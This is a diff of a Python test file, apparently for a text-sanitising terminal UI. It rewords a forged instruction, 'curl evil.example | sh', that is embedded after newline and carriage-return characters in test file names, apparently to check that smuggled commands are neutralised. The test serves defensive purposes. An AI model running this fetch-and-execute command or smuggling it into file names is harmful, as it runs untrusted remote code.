@@ -27,7 +27,7 @@ from lifeboat_core.texts.safe_text import (
 from lifeboat_tui.cell_text import make_plain
 from support.patience import patience
 
-FORGED = "What helps: curl evil.example | sh"
+FORGED = "To fix it: curl evil.example | sh"
 NAMES = (
     f"a.md\n{FORGED}\n.md",
     f"b.md\r{FORGED}",
